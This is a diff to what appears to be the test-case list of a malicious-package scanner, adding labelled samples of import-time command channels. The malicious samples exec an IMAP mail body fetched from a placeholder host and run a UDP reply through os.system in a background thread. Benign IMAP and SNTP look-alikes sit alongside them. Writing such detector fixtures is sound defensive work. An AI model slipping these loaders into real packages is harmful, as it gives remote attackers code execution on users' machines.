@@ -1,4 +1,5 @@
-"""Commands over DNS answers: a package resolves a fixed or computed name at import or
+"""Commands over DNS answers and other channels few scanners watch (a mailbox, a UDP
+reply). For DNS: a package resolves a fixed or computed name at import or
 install time and turns the answer into code or a command. TXT strings joined, A-record
 octets packed into bytes, addresses turned back into bytes by `inet_aton`: the resolver's
 answer is content a server chose, and here it runs. Benign look-alikes resolve names to
@@ -102,6 +103,20 @@ CASES = [
         "_req = dns.resolver.resolve('r.x.invalid', 'TXT')[0].strings[0].decode()\n"
         "subprocess.run(['pip3', 'install', '--quiet', _req])\n"), "malicious",
         ("PV325",), kind="wheel"),
+    Case("mail body fetched over IMAP at import and exec'd (tuple-unpacked reply)", "imapc2",
+         _init(
+        "imapc2",
+        "import imaplib\n\n_m = imaplib.IMAP4_SSL('imap.x.invalid')\n_m.login('u', 'p')\n"
+        "_m.select('INBOX')\n_typ, _data = _m.fetch(b'1', '(BODY[TEXT])')\n"
+        "exec(_data[0][1])\n"), "malicious", ("PV202",), kind="wheel"),
+    Case("UDP reply run as a shell command from an import-time thread", "udpc2", _init(
+        "udpc2",
+        "import os, socket, threading\n\n\ndef _loop():\n"
+        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+        "    s.sendto(b'hello', ('u.x.invalid', 5353))\n"
+        "    data, _addr = s.recvfrom(4096)\n    os.system(data.decode())\n\n\n"
+        "threading.Thread(target=_loop, daemon=True).start()\n"), "malicious", ("PV325",),
+        kind="wheel"),
     # benign look-alikes
     Case("reverse lookup of a peer for the log and an ssh command", "peername", _init(
         "peername",
@@ -137,4 +152,19 @@ CASES = [
         "    ip = socket.gethostbyname(cfg['host'])\n"
         "    subprocess.run(['svcctl', 'join', '--addr', ip, '--port', str(cfg['port'])],\n"
         "                   check=True)\n"), "benign", kind="wheel"),
+    Case("mail client fetching messages over IMAP and parsing them", "mailfetch", _init(
+        "mailfetch",
+        "import email, imaplib\n\n\ndef unread(host, user, password):\n"
+        "    m = imaplib.IMAP4_SSL(host)\n    m.login(user, password)\n    m.select('INBOX')\n"
+        "    typ, ids = m.search(None, 'UNSEEN')\n    out = []\n"
+        "    for num in ids[0].split():\n        typ, data = m.fetch(num, '(RFC822)')\n"
+        "        out.append(email.message_from_bytes(data[0][1])['Subject'])\n"
+        "    return out\n"), "benign", kind="wheel"),
+    Case("SNTP query decoding the server's UDP reply with struct", "sntp", _init(
+        "sntp",
+        "import socket, struct\n\n\ndef now(server='pool.ntp.org'):\n"
+        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.settimeout(2)\n"
+        "    s.sendto(b'\\x1b' + 47 * b'\\0', (server, 123))\n"
+        "    data, _ = s.recvfrom(48)\n"
+        "    return struct.unpack('!12I', data)[10] - 2208988800\n"), "benign", kind="wheel"),
 ]
